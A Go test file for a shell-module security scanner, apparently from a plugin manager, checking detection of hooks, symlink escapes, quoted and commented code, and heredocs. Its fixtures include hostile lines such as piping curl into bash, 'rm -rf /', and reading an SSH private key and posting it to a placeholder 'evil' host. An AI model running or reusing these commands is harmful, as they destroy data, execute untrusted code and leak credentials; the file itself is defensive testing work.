// SPDX-License-Identifier: MPL-2.0

package scanner

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zephyr-sh/zephyr/internal/testutil"
)

func mustScan(t *testing.T, root string, opts Options) *Result {
	t.Helper()
	res, err := Scan(root, opts)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	return res
}

func findingsFor(res *Result, pattern string) []Finding {
	var out []Finding
	for _, f := range res.Findings {
		if f.Pattern == pattern {
			out = append(out, f)
		}
	}
	return out
}

func TestScan_CleanModule(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "module.toml", "[module]\nname = \"clean\"\n")
	testutil.WriteFile(t, root, "init.zsh", "# prompt setup\nalias ll='ls -la'\nexport EDITOR=vim\n\n")

	res := mustScan(t, root, Options{})
	if !res.Success || res.Critical+res.Warning+res.Info != 0 {
		t.Fatalf("clean module produced findings: %+v", res.Findings)
	}
	if res.Summary.FilesScanned != 2 || res.Summary.LinesScanned != 6 {
		t.Errorf("Summary = %+v, want 2 files / 6 lines", res.Summary)
	}
	if res.Message == "" {
		t.Error("expected a summary message")
	}
}

func TestScan_QuoteExclusion(t *testing.T) {
	t.Parallel()

	quoted := t.TempDir()
	testutil.WriteFile(t, quoted, "install.sh", `echo "curl http://x | bash"`+"\n")
	res := mustScan(t, quoted, Options{})
	if len(res.Findings) != 0 {
		t.Errorf("quoted example raised findings: %+v", res.Findings)
	}

	bare := t.TempDir()
	testutil.WriteFile(t, bare, "install.sh", "curl http://x | bash\n")
	res = mustScan(t, bare, Options{})
	if got := findingsFor(res, "remote-pipe-shell"); len(got) != 1 || got[0].Line != 1 {
		t.Errorf("remote-pipe-shell findings = %+v", got)
	}
	if res.Success {
		t.Error("critical finding should fail the scan")
	}
}

func TestScan_CommentExclusion(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "a.sh", "ls # curl http://x | bash\n    # rm -rf /\n")
	res := mustScan(t, root, Options{})
	if len(res.Findings) != 0 {
		t.Errorf("commented code raised findings: %+v", res.Findings)
	}
}

func TestScan_SymlinkEscape(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	outside := t.TempDir()
	secret := testutil.WriteFile(t, outside, "secret.sh", "curl http://x | bash\n")
	testutil.Symlink(t, root, "outside", outside)
	testutil.Symlink(t, root, "lib/secret.sh", secret)

	res := mustScan(t, root, Options{})
	if len(res.Symlinks) != 2 {
		t.Fatalf("Symlinks = %+v, want 2", res.Symlinks)
	}
	if got := findingsFor(res, "symlink-escape"); len(got) != 2 {
		t.Errorf("symlink-escape findings = %+v", got)
	}
	if res.Critical != 2 || len(res.Findings) != 2 {
		t.Errorf("Critical = %d, Findings = %+v; link targets must not be scanned", res.Critical, res.Findings)
	}
	if res.Summary.FilesScanned != 0 {
		t.Errorf("FilesScanned = %d, want 0", res.Summary.FilesScanned)
	}
}

func TestScan_SymlinkSingleEscape(t *testing.T) {
	t.Parallel()

	if _, err := os.Stat("/etc/passwd"); err != nil {
		t.Skip("no /etc/passwd on this host")
	}
	root := t.TempDir()
	testutil.Symlink(t, root, "passwd", "/etc/passwd")

	res := mustScan(t, root, Options{})
	if len(res.Symlinks) != 1 || res.Symlinks[0].File != "passwd" {
		t.Fatalf("Symlinks = %+v", res.Symlinks)
	}
	if res.Critical != 1 || len(res.Findings) != 1 {
		t.Errorf("want exactly one critical finding, got %+v", res.Findings)
	}
}

func TestScan_SymlinkInsideAndDangling(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "real.zsh", "export A=1\n")
	testutil.Symlink(t, root, "alias.zsh", "real.zsh")
	testutil.Symlink(t, root, "dangling", "does-not-exist")

	res := mustScan(t, root, Options{})
	if len(res.Symlinks) != 0 {
		t.Errorf("internal link reported as escape: %+v", res.Symlinks)
	}
	if got := findingsFor(res, "symlink-unresolvable"); len(got) != 1 || got[0].Severity != SeverityWarning {
		t.Errorf("dangling link findings = %+v", got)
	}
	if res.Summary.FilesScanned != 1 {
		t.Errorf("FilesScanned = %d, want 1 (link not scanned through)", res.Summary.FilesScanned)
	}
}

func TestScan_HooksBlock(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFileMode(t, root, "hooks/post-install", "#!/bin/sh\necho installed\n", 0o755)
	testutil.WriteFileMode(t, root, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0o755)
	testutil.WriteFile(t, root, "init.zsh", "export A=1\n")

	res := mustScan(t, root, Options{})
	if res.Success {
		t.Fatal("hook should fail the scan without unsafe mode")
	}
	if !errors.Is(res.Err, ErrHooksDetected) {
		t.Errorf("Err = %v, want ErrHooksDetected", res.Err)
	}
	if len(res.Hooks) != 1 {
		t.Fatalf("Hooks = %+v, want only the non-sample hook", res.Hooks)
	}
	h := res.Hooks[0]
	if h.Name != "post-install" || h.Path != "hooks/post-install" || !h.Executable || h.Interpreter != "/bin/sh" {
		t.Errorf("hook = %+v", h)
	}
	if res.Critical != 1 {
		t.Errorf("Critical = %d, want 1", res.Critical)
	}
	if res.Summary.FilesScanned != 0 {
		t.Error("content scan should not run after hooks are found")
	}
}

func TestScan_HooksUnsafeProceeds(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFileMode(t, root, ".git/hooks/post-checkout", "#!/usr/bin/env bash\ntrue\n", 0o755)
	testutil.WriteFile(t, root, "init.zsh", "export A=1\n")

	res := mustScan(t, root, Options{Unsafe: true})
	if !res.Success || res.Err != nil {
		t.Fatalf("unsafe scan should proceed: %+v", res)
	}
	if len(res.Hooks) != 1 || res.Hooks[0].Path != ".git/hooks/post-checkout" {
		t.Errorf("Hooks = %+v", res.Hooks)
	}
	if res.Hooks[0].Interpreter != "/usr/bin/env bash" {
		t.Errorf("Interpreter = %q", res.Hooks[0].Interpreter)
	}
	if res.Summary.FilesScanned != 1 {
		t.Errorf("FilesScanned = %d, want 1 (.git is not content-scanned)", res.Summary.FilesScanned)
	}
	if !res.HasFindings() {
		t.Error("HasFindings should report the hook")
	}
}

func TestScan_CredentialEscalation(t *testing.T) {
	t.Parallel()

	alone := t.TempDir()
	testutil.WriteFile(t, alone, "steal.sh", "cat ~/.ssh/id_rsa\n")
	res := mustScan(t, alone, Options{})
	if res.Warning != 1 || res.Critical != 0 {
		t.Errorf("plain key read: critical=%d warning=%d, want 0/1", res.Critical, res.Warning)
	}
	if len(res.Credentials) != 1 || res.Credentials[0].Category != CategorySSH || res.Credentials[0].Exfiltration {
		t.Errorf("Credentials = %+v", res.Credentials)
	}

	piped := t.TempDir()
	testutil.WriteFile(t, piped, "steal.sh", "cat ~/.ssh/id_rsa | curl -d @- https://evil\n")
	res = mustScan(t, piped, Options{})
	if res.Critical != 1 {
		t.Errorf("exfiltrating read: critical=%d, want 1", res.Critical)
	}
	if len(res.Credentials) != 1 || !res.Credentials[0].Exfiltration || res.Credentials[0].Severity != SeverityCritical {
		t.Errorf("Credentials = %+v", res.Credentials)
	}
	if res.Success {
		t.Error("escalated credential finding should fail the scan")
	}
}

func TestScan_DocPathDowngrade(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "docs/install.sh", "curl http://x | bash\n")
	testutil.WriteFile(t, root, "README.md", "sudo make install\n")

	res := mustScan(t, root, Options{})
	if res.Critical != 0 {
		t.Errorf("Critical = %d, want 0 after downgrade", res.Critical)
	}
	rp := findingsFor(res, "remote-pipe-shell")
	if len(rp) != 1 || rp[0].Severity != SeverityWarning {
		t.Errorf("remote-pipe-shell = %+v, want one warning", rp)
	}
	if sudo := findingsFor(res, "sudo"); len(sudo) != 1 || sudo[0].Severity != SeverityInfo {
		t.Errorf("sudo = %+v, want one info", sudo)
	}
	// remote-pipe-shell and http-download downgraded to warning and info; sudo to info.
	if res.Warning != 1 || res.Info != 2 {
		t.Errorf("counts warning=%d info=%d, want 1/2", res.Warning, res.Info)
	}
	if !res.Success {
		t.Error("downgraded findings should not fail the scan")
	}
}

func TestScan_Heredoc(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "gen.sh", strings.Join([]string{
		"cat <<EOF > example.txt",
		"curl http://x | bash",
		"EOF",
		"cat <<-'END'",
		"\trm -rf /",
		"\tEND",
		"cat <<< \"$x\"",
		"curl http://y | bash",
	}, "\n")+"\n")

	res := mustScan(t, root, Options{})
	rp := findingsFor(res, "remote-pipe-shell")
	if len(rp) != 1 || rp[0].Line != 8 {
		t.Errorf("remote-pipe-shell = %+v, want only line 8", rp)
	}
	if got := findingsFor(res, "rm-root"); len(got) != 0 {
		t.Errorf("heredoc body was scanned: %+v", got)
	}
	if res.Summary.LinesScanned != 8 {
		t.Errorf("LinesScanned = %d, want 8", res.Summary.LinesScanned)
	}
}

func TestScan_FileFilters(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "bin/tool", "\x00\x01curl http://x | bash\n")
	testutil.WriteFile(t, root, "long.sh", strings.Repeat("a", MaxLineLength+1)+"\ncurl http://x | bash\n")
	testutil.WriteFile(t, root, ".git/config", "curl http://x | bash\n")

	big := filepath.Join(root, "big.sh")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(MaxFileSize + 1); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	res := mustScan(t, root, Options{})

	if got := findingsFor(res, "file-too-large"); len(got) != 1 || got[0].File != "big.sh" {
		t.Errorf("file-too-large = %+v", got)
	}
	if got := findingsFor(res, "line-too-long"); len(got) != 1 || got[0].Line != 1 || got[0].File != "long.sh" {
		t.Errorf("line-too-long = %+v", got)
	}
	rp := findingsFor(res, "remote-pipe-shell")
	if len(rp) != 1 || rp[0].File != "long.sh" || rp[0].Line != 2 {
		t.Errorf("remote-pipe-shell = %+v, want only long.sh:2 (binary and .git skipped)", rp)
	}
	if res.Summary.FilesScanned != 1 {
		t.Errorf("FilesScanned = %d, want 1", res.Summary.FilesScanned)
	}
}

func TestScan_UnsafeReportsButSucceeds(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "x.sh", "curl http://x | bash\n")

	res := mustScan(t, root, Options{Unsafe: true, TrustedSource: true})
	if !res.Success || res.Critical == 0 {
		t.Errorf("unsafe scan: Success=%v Critical=%d", res.Success, res.Critical)
	}
	if !res.TrustedSource {
		t.Error("TrustedSource not carried into result")
	}
	if !strings.Contains(res.Message, "unsafe") {
		t.Errorf("Message = %q", res.Message)
	}
}

func TestScan_RootErrors(t *testing.T) {
	t.Parallel()

	if _, err := Scan(filepath.Join(t.TempDir(), "missing"), Options{}); err == nil {
		t.Error("expected error for missing root")
	}

	file := testutil.WriteFile(t, t.TempDir(), "f", "x")
	if _, err := Scan(file, Options{}); !errors.Is(err, ErrNotDirectory) {
		t.Errorf("expected ErrNotDirectory, got %v", err)
	}
}

func TestScan_SymlinkedRoot(t *testing.T) {
	t.Parallel()

	target := t.TempDir()
	testutil.WriteFile(t, target, "init.zsh", "export A=1\n")
	testutil.Symlink(t, target, "self", "init.zsh")
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}

	res := mustScan(t, link, Options{})
	if len(res.Symlinks) != 0 || res.Summary.FilesScanned != 1 {
		t.Errorf("symlinked root mishandled: %+v", res)
	}
}

func TestFindHooks(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFileMode(t, root, ".git/hooks/post-checkout", "#!/bin/sh\n", 0o755)
	testutil.WriteFileMode(t, root, ".git/hooks/pre-push.sample", "#!/bin/sh\n", 0o755)
	testutil.WriteFile(t, root, "lib/hooks/readme.txt", "not executable\n")

	hooks, err := FindHooks(root)
	if err != nil {
		t.Fatalf("FindHooks() error = %v", err)
	}
	if len(hooks) != 2 {
		t.Fatalf("FindHooks() = %+v, want 2 hooks", hooks)
	}
	for _, h := range hooks {
		if strings.HasSuffix(h.Name, ".sample") {
			t.Errorf("sample hook reported: %+v", h)
		}
	}

	if _, err := FindHooks(filepath.Join(root, "missing")); err == nil {
		t.Error("FindHooks() on a missing root should fail")
	}
}

func TestScan_ShellSyntax(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	testutil.WriteFile(t, root, "ok.sh", "for f in a b; do echo \"$f\"; done\n")
	testutil.WriteFile(t, root, "broken.sh", "echo start\nif true; then\n  echo never closed\n")
	testutil.WriteFile(t, root, "init.zsh", "setopt extended_glob\nprint -l **/*(.)\n")
	testutil.WriteFile(t, root, "bin/run", "#!/usr/bin/env sh\nfi\n")
	testutil.WriteFile(t, root, "docs/example.sh", "if\n")

	res := mustScan(t, root, Options{})
	got := findingsFor(res, shellSyntaxPattern)
	files := make(map[string]Finding, len(got))
	for _, f := range got {
		files[f.File] = f
	}
	if len(got) != 2 {
		t.Fatalf("shell-syntax findings = %+v, want broken.sh and bin/run", got)
	}
	if f, ok := files["broken.sh"]; !ok || f.Severity != SeverityInfo || f.Line == 0 {
		t.Errorf("broken.sh = %+v", f)
	}
	if _, ok := files["bin/run"]; !ok {
		t.Error("shebang script was not parsed")
	}
	if !res.Success || res.Critical+res.Warning != 0 {
		t.Errorf("syntax findings changed the verdict: %+v", res)
	}
}

func TestShellVariant(t *testing.T) {
	t.Parallel()

	tests := []struct {
		rel  string
		data string
		ok   bool
	}{
		{"init.sh", "", true},
		{"lib.bash", "", true},
		{"prompt.zsh", "#!/bin/bash\n", false},
		{"bin/tool", "#!/bin/bash -e\n", true},
		{"bin/tool", "#!/usr/bin/env dash\n", true},
		{"bin/tool", "#!/usr/bin/env python3\n", false},
		{"aliases", "alias g=git\n", false},
	}
	for _, tt := range tests {
		if _, ok := shellVariant(tt.rel, []byte(tt.data)); ok != tt.ok {
			t.Errorf("shellVariant(%q, %q) ok = %v, want %v", tt.rel, tt.data, ok, tt.ok)
		}
	}
}
